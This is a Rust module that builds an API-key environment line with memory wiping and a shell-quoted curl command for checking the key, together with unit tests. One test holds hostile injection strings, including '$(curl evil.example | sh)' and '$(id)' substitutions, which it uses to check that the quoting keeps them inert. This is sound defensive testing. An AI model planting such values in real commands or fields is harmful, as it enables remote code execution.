//! The snippets the reveal panel offers with a new key: an environment variable line and a
//! command that checks the key works. The command never holds the key itself.

use zeroize::Zeroizing;

/// Name of the environment variable the snippets use.
pub const KEY_VARIABLE: &str = "LEV_API_KEY";

/// `LEV_API_KEY=<key>`, built in one allocation of its final size (growing a string would
/// leave unwiped copies of the key behind) and wiped when dropped.
pub fn env_line(key: &str) -> Zeroizing<String> {
    let mut line = Zeroizing::new(String::with_capacity(KEY_VARIABLE.len() + 1 + key.len()));
    line.push_str(KEY_VARIABLE);
    line.push('=');
    line.push_str(key);
    line
}

/// A command that calls `GET /me` with the key from the environment variable. The values in it
/// come from the page's settings, so each is quoted for POSIX shells: whatever they hold, the
/// pasted line runs `curl` and nothing else. Only the variable is left for the shell to expand.
pub fn test_command(api_base_url: &str, origin_app: &str) -> String {
    let base = api_base_url.strip_suffix('/').unwrap_or(api_base_url);
    let quote = |value: &str| {
        shlex::try_quote(value)
            .map(|quoted| quoted.into_owned())
            // Only a NUL byte can't be quoted; the line then asks for nothing.
            .unwrap_or_else(|_| "''".to_owned())
    };
    format!(
        "curl -H \"Authorization: Bearer ${KEY_VARIABLE}\" -H {} {}",
        quote(&format!("X-Origin-App: {origin_app}")),
        quote(&format!("{base}/me")),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_line_holds_the_key_and_the_command_does_not() {
        let line = env_line("lev_sk_abc");
        assert_eq!(line.as_str(), "LEV_API_KEY=lev_sk_abc");
        assert_eq!(line.capacity(), line.len(), "one allocation, no spare copy");
        assert_eq!(
            test_command("https://api.levcapital.com/api/external/v2/", "lev-settings-api-keys"),
            "curl -H \"Authorization: Bearer $LEV_API_KEY\" -H 'X-Origin-App: lev-settings-api-keys' https://api.levcapital.com/api/external/v2/me"
        );
    }

    #[test]
    fn hostile_values_stay_words_of_the_one_command() {
        let command = test_command(
            "https://x.example/a'b$(id)`id`/",
            "x\" $(curl evil.example | sh) \"",
        );
        assert_eq!(
            shlex::split(&command),
            Some(vec![
                "curl".to_owned(),
                "-H".to_owned(),
                "Authorization: Bearer $LEV_API_KEY".to_owned(),
                "-H".to_owned(),
                "X-Origin-App: x\" $(curl evil.example | sh) \"".to_owned(),
                "https://x.example/a'b$(id)`id`/me".to_owned(),
            ]),
            "{command}"
        );
        assert!(
            !command.contains("\"$("),
            "no substitution in double quotes: {command}"
        );
    }
}
